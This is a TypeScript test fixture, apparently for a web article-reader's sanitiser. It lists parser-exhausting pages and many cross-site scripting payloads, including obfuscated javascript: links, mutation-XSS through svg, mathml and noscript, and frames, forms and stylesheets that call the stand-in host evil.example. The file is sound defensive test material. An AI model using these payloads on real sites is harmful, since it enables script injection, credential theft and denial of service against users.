// SPDX-License-Identifier: MIT

import { prose } from "@reading-list/testing/page-server.ts";

/** Pages that try to cost much: each is just below the reader's limit of 5 MB, or has what some parser is slow on. */
export const costlyPages: Record<string, string> = {
  "100,000 nested elements": `${"<div>".repeat(100_000)}${prose}`,
  "100,000 nested formatting elements": `${"<b><i>".repeat(50_000)}${prose}`,
  "1,000 nested elements, again and again": `${"<div>".repeat(1000)}x${"</div>".repeat(1000)}`.repeat(100) + prose,
  "nested tables": `${"<table><tr><td>".repeat(20_000)}${prose}`,
  "text that tables throw out": `<table>${"x<tr>".repeat(200_000)}</table>${prose}`,
  "5 MB of attributes": `<p ${Array.from({ length: 400_000 }, (_, n) => `a${n}=1`).join(" ")}>${prose}`,
  "one attribute of 5 MB": `<p class="${"a ".repeat(2_400_000)}">${prose}`,
  "one srcset of 4 MB": `<img srcset="${"a 1x, ".repeat(700_000)}">${prose}`,
  "lazy images": `<img data-src="a.jpg 1x" class="lazy">`.repeat(60_000) + prose,
  "a million empty elements": `<p>${"<i></i>".repeat(700_000)}${prose}`,
  "a million characters of one word": `<p>${"a".repeat(4_900_000)}`,
  "spaces without end": `<title>${" ".repeat(2_000_000)}x</title><p>${" ".repeat(2_800_000)}x`,
  "unclosed tags and quotes": `<a href="${"<a href='".repeat(400_000)}`,
  "comments that never end": `${"<!--".repeat(1_000_000)}`,
  "meta properties": `${'<meta property="og:a og:b og:c og:d" content="x">'.repeat(90_000)}${prose}`,
  "nested JSON": `<script type="application/ld+json">${"[".repeat(2_000_000)}</script>${prose}`,
  "headings and links": `${'<h2><a href="?page=2">2</a></h2>'.repeat(140_000)}${prose}`,
  "password fields": `${"<form><input type=password></form>".repeat(130_000)}${prose}`,
  "line breaks": `<p>${"x<br><br>".repeat(500_000)}${prose}`,
  entities: `<p>${"&notanentity&amp".repeat(300_000)}${prose}`,
};

/** Markup that tries to run a script, load something or change what surrounds it, each at the end of an article. */
export const maliciousMarkup: Record<string, string> = {
  script: "<script>alert(1)</script><script src=//evil.example/x.js></script>",
  "event handlers":
    '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>x</p><body onload=alert(1)>',
  "handlers without spaces": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>",
  "javascript links":
    '<a href="javascript:alert(1)">a</a><a href=" &#1;java&#10;script:alert(1)">b</a><a href="JaVaScRiPt:alert(1)">c</a>',
  "javascript by entities":
    '<a href="&#106;&#97;vascript&colon;alert(1)">a</a><a href="java&Tab;script:alert(1)">b</a>',
  "other schemes":
    '<a href="data:text/html,<script>alert(1)</script>">a</a><a href="vbscript:x">b</a><a href="file:///etc/passwd">c</a><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  frames:
    '<iframe src="//evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=x></frameset><object data=x></object><embed src=x>',
  forms:
    '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button><textarea></textarea><select><option>x</select></form><isindex action=x>',
  styles:
    '<style>*{background:url(//evil.example)}</style><p style="background:url(javascript:alert(1));position:fixed">x</p><link rel=stylesheet href=//evil.example><div class="x" id="y">z</div>',
  "meta and base": '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="//evil.example">',
  svg: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><animate attributeName=href values=javascript:alert(1) /><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  "mutation: style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "attributes of mathml":
    '<math href="javascript:alert(1)" style="background:url(https://evil.example/x)" onclick="alert(1)"><mi xlink:href="javascript:alert(1)" mathvariant=\'" onclick="alert(1)\' style="x">x</mi><mo onmouseover="alert(1)" form=\'"><img src=1 onerror=alert(1)>\'>+</mo></math>',
  "html in mathml":
    '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=1 onerror=alert(1)><script>alert(1)</script></annotation-xml></semantics><mtext><a href="javascript:alert(1)">y</a><script>alert(1)</script></mtext><mi>&lt;img src=1 onerror=alert(1)&gt;</mi><style><img src=1 onerror=alert(1)></style></math>',
  "marks of our own":
    '<span data-mathml="<img src=1 onerror=alert(1)>">x</span><img src="https://a.example/x.png" data-mathml="<script>alert(1)</script>"><figure data-mathml="<script>alert(1)</script>">x</figure>',
  "mutation: form and mathml":
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>"></form>',
  "mutation: noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "mutation: xmp and plaintext":
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img title="</noembed><img src onerror=alert(1)>"></noembed><plaintext><img src=x onerror=alert(1)>',
  "mutation: textarea and title":
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><img title="</title><img src=x onerror=alert(1)>"></title>',
  "mutation: template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
  "mutation: select": "<select><style></select><img src=x onerror=alert(1)></style></select>",
  "mutation: comments":
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
  "escaped markup": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
  "quotes in attributes": `<a href="https://a.example/&quot;onmouseover=alert(1)//" title="&quot;><script>alert(1)</script>">x</a><img src=x alt='"><script>alert(1)</script>'>`,
  "backticks in attributes": "<img src=`x`onerror=alert(1)> <a title=`onmouseover=alert(1)>x</a>",
  "lazy images":
    '<img data-src="javascript:alert(1)"><img srcset="javascript:alert(1) 2x"><picture><source srcset="x onerror=alert(1)"><img></picture>',
  "noscript images": "<img class=lazy><noscript>&lt;img src=x onerror=alert(1)&gt;</noscript>",
  "structured data":
    '<script type="application/ld+json">{"@type":"Article","articleBody":"<img src=x onerror=alert(1)>","headline":"</script><script>alert(1)</script>"}</script>',
  "custom elements":
    "<x-evil onfocus=alert(1) autofocus tabindex=1>x</x-evil><image src=x onerror=alert(1)><dialog open oncancel=alert(1)>x</dialog>",
  details:
    "<details open ontoggle=alert(1)><summary onfocus=alert(1)>x</summary>y</details><marquee onstart=alert(1)>x</marquee>",
  media:
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=//evil.example/a></audio><track src=x>",
  "tracking and pings":
    '<a href="https://a.example/" ping="//evil.example" target=_blank download>x</a><img src="https://a.example/x.png" referrerpolicy=unsafe-url crossorigin>',
  nul: "<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)><a href='java\0script:alert(1)'>x</a>",
};
